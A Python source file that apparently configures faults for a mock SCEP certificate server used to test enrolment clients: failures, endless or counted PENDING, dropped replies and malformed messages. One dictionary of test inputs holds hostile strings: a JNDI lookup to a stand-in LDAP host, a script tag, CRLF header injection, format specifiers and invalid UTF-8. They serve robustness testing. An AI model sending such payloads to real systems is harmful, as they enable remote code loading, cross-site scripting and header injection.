"""Faults of decisions: failures, endless PENDING, sequences within a transaction. RFC 8894, 2.4, 2.5, 3.3."""

from __future__ import annotations

from dataclasses import replace
from functools import partial

from mfp_sim.shared.documents.kinds import Within
from mfp_sim.shared.scep import der
from mfp_sim.shared.scep.http_messages import PKI_MESSAGE, HttpRequest
from mfp_sim.shared.scep.messages import CertRep
from mock_scep_server.faults import strangers
from mock_scep_server.faults.base import Context, Fault
from mock_scep_server.faults.combined import InTurn, Together, at
from mock_scep_server.faults.decide import (
    FAILURE,
    PENDING,
    SUCCESS,
    Answered,
    Unless,
    failed,
    pending,
)
from mock_scep_server.faults.delivery import CutOff
from mock_scep_server.faults.message import Said, odd
from mock_scep_server.faults.registry import Spec, among, argument, choice, one_of
from mock_scep_server.ruled import RuledAnswer

MESSAGES = "PKCSReq RenewalReq CertPoll"
ENROL = "PKCSReq RenewalReq"
COUNT = argument("count", Within(1, 1000), 2, "the number of times")
DENIED = failed(2, "denied by the operator")
LOST = CutOff("close")

UNDEFINED_FAIL_INFO = ("5", "11", "99", "empty", "x")
HOSTILE = {
    "format-string": der.utf8_string("%s%n%x {0} {{7*7}} ${jndi:ldap://x.invalid/a} <script>alert(1)</script>"),
    "control-characters": der.utf8_string("line\r\nSet-Cookie: a=b\x00\x1b[31mred\x07"),
    "invalid-utf-8": der.tlv(der.UTF8_STRING, b"\xff\xfe bad \xc0\xaf"),
    "long": der.utf8_string("A" * 65536),
}


def _undefined(value: str) -> Fault:
    text = "" if value == "empty" else value
    return at(MESSAGES, FAILURE, odd(instead=(("failInfo", (der.printable_string(text),)),)))


def _sequence(*faults: Fault | None) -> Fault:
    return at(MESSAGES, InTurn(faults))


def _envelope_too() -> Said:
    """Add the certificates and the recipient of a SUCCESS."""

    def change(reply: CertRep, context: Context) -> CertRep:
        signer = context.asked.signer if context.asked else None
        others = (strangers.device(context).certificate, context.authority.issuer.certificate)
        return replace(reply, certificates=tuple(other.der for other in others), recipient=signer)

    return Said(change)


def _failed_all_the_same(reply: CertRep, context: Context) -> CertRep:
    return replace(reply, fail_info=2, fail_info_text="and yet it failed")


def _limited(octets: int) -> Fault:
    """Refuse GET requests with a longer target, as IIS does with query strings."""
    return Unless(414, lambda request: request.method != "GET" or len(request.target) <= octets)


def _is_at(path: str, request: HttpRequest) -> bool:
    """If the path has a query (`/scep?ca=2`), the target has to begin with both."""
    whole = f"{request.target}&".startswith(f"{path}&")
    return whole if "?" in path else request.target.partition("?")[0] == path


def _posts_messages(request: HttpRequest) -> bool:
    return request.method != "POST" or (request.header("Content-Type") or "").lower() == PKI_MESSAGE


def _has(name: str, request: HttpRequest) -> bool:
    return request.header(name) is not None


def _without_text(reply: CertRep, context: Context) -> CertRep:
    return replace(reply, fail_info_text=None)


def _without_fail_info(reply: CertRep, context: Context) -> CertRep:
    return replace(reply, fail_info=None)


CONFLICTS = {"failure": at(MESSAGES, FAILURE, _envelope_too()), "pending": at(MESSAGES, PENDING, _envelope_too())}
REJECTIONS = {
    "with-text": at(ENROL, failed(2, "not allowed by the policy of this CA")),
    "without-text": at(ENROL, failed(2, "not allowed by the policy of this CA"), Said(_without_text)),
}

TABLE: dict[str, Spec] = {
    "drop-first-reply": Spec("delivery", lambda: at(ENROL, InTurn((LOST,)))),
    "drop-success": Spec("delivery", lambda: at(MESSAGES, InTurn((LOST,)), statuses="SUCCESS")),
    "duplicate-dn": Spec(
        "decide", lambda: at(MESSAGES, InTurn((Together((SUCCESS, LOST)), failed(2, "certificate already exists"))))
    ),
    "duplicate-success": Spec(
        "decide", lambda: _sequence(Together((SUCCESS, LOST)), Answered(RuledAnswer("success", again=True)))
    ),
    "fail-badalg": Spec("decide", lambda: at(MESSAGES, failed(0, "badAlg by the fault"))),
    "fail-badcertid": Spec("decide", lambda: at(MESSAGES, failed(4, "badCertId by the fault"))),
    "fail-badmessagecheck": Spec("decide", lambda: at(MESSAGES, failed(1, "badMessageCheck by the fault"))),
    "fail-badrequest": Spec("decide", lambda: at(MESSAGES, failed(2, "badRequest by the fault"))),
    "fail-badtime": Spec("decide", lambda: at(MESSAGES, failed(3, "badTime by the fault"))),
    "failinfo-undefined": Spec("message", _undefined, (choice("value", UNDEFINED_FAIL_INFO),)),
    "failinfotext-hostile": one_of(
        "message", "text", HOSTILE, lambda text: at(MESSAGES, FAILURE, odd(instead=(("failInfoText", (text,)),)))
    ),
    "failinfotext-on-success": Spec("message", lambda: at(MESSAGES, Said(_failed_all_the_same), statuses="SUCCESS")),
    "failure-after-pending": Spec("decide", lambda: _sequence(PENDING, PENDING, failed(2, "refused after PENDING"))),
    "failure-no-failinfo": Spec("message", lambda: at(MESSAGES, FAILURE, Said(_without_fail_info))),
    "failure-with-envelope": Spec("message", lambda: at(MESSAGES, FAILURE, _envelope_too())),
    "get-414": Spec("decide", _limited, (argument("octets", Within(1, 65536), 2048),)),
    "outage-during-poll": Spec("delivery", lambda count: at("CertPoll", InTurn((CutOff("reset"),) * count)), (COUNT,)),
    "path-strict": Spec(
        "decide",
        lambda path: Unless(404, partial(_is_at, path)),
        (choice("path", ("/cgi-bin/pkiclient.exe", "/certsrv/mscep/mscep.dll", "/scep?ca=2")),),
    ),
    "pending-forever": Spec("decide", lambda: at(MESSAGES, PENDING)),
    "pending-n": Spec("decide", lambda count: at(MESSAGES, pending(count)), (COUNT,)),
    "pending-renewal": Spec("decide", lambda: at("RenewalReq", PENDING)),
    "pending-then-failure": Spec("decide", lambda count: at(MESSAGES, pending(count, DENIED)), (COUNT,)),
    "pending-then-success": Spec("decide", lambda count: at(MESSAGES, pending(count, SUCCESS)), (COUNT,)),
    "pending-with-envelope": Spec("message", lambda: at(MESSAGES, PENDING, _envelope_too())),
    "policy-reject": among("decide", "how", REJECTIONS),
    "poll-unknown": Spec("decide", lambda: at("CertPoll", failed(4, "no such transaction"))),
    "post-ct-strict": Spec("decide", lambda: Unless(415, _posts_messages)),
    "status-body-conflict": among("message", "status", CONFLICTS),
    "wrong-challenge-reply": Spec("decide", lambda: at(ENROL, failed(2, "challenge password invalid"))),
    "demands-content-length": Spec(
        "decide", lambda: at("PKIOperation", Unless(411, partial(_has, "Content-Length")), method="POST")
    ),
    "demands-host": Spec("decide", lambda: Unless(400, partial(_has, "Host"))),
}
